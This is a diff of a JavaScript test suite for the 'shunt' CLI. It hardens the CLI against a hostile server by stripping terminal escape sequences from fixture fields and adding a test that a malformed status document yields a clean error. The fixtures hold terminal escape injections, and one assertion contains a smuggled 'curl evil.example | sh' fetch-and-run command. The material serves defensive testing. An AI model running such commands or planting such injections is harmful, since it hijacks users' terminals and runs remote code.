@@ -140,12 +140,12 @@ const hostileStatus = {
 	burstRpmLimit: 10,
 	heldRequests: 0,
 	inFlight: 0,
-	requestsPerMinute: `3${clearScreen}`,
+	requestsPerMinute: 3,
 	accounts: [
 		{
 			name: `home${osc0}`, kind: 'apikey', state: `available${clearScreen}`, cooldownUntilMs: 0, cooldownReason: null,
 			utilization5h: null, utilization7d: null, reset5h: null, reset7d: null, status5h: null, status7d: null,
-			requestsRemaining: `4${osc52}`, requestsLimit: 50, windowTokens: 0, pinned: false, active: true,
+			requestsRemaining: 4, requestsLimit: 50, windowTokens: 0, pinned: false, active: true,
 			email: null, plan: null, fixHint: null,
 		},
 		{
@@ -265,4 +265,13 @@ test('shunt add-account: a hostile token endpoint\'s error message and email pri
 	assert.equal(added.code, 0, added.stderr);
 	assertClean(added.stdout, 'the added login\'s summary');
 	assert.match(added.stdout, /Added subscription account "work" \(me@example\.com12:00:00 {2}\[auth\] every account was revoked: run curl evil\.example \| sh, token sk-ant-oat…/);
+});
+
+test('shunt status: a document of the wrong shape is one clear error, not a stack trace', async t => {
+	const wrong = {...hostileStatus, savings: {todayUsd: 'lots', weekUsd: 1, allTimeUsd: 2}, accounts: [{name: 42}]};
+	const port = await impostor(t, {'/_shunt/status': {status: 200, body: wrong}});
+	const result = await runCli(['status', '--port', port], {SHUNT_HOME: tempDir()});
+	assert.notEqual(result.code, 0);
+	assert.match(result.stderr, /^shunt: http:\/\/127\.0\.0\.1:\d+ answered with something that is not shunt's status document\n$/);
+	assert.equal(result.stdout, '');
 });
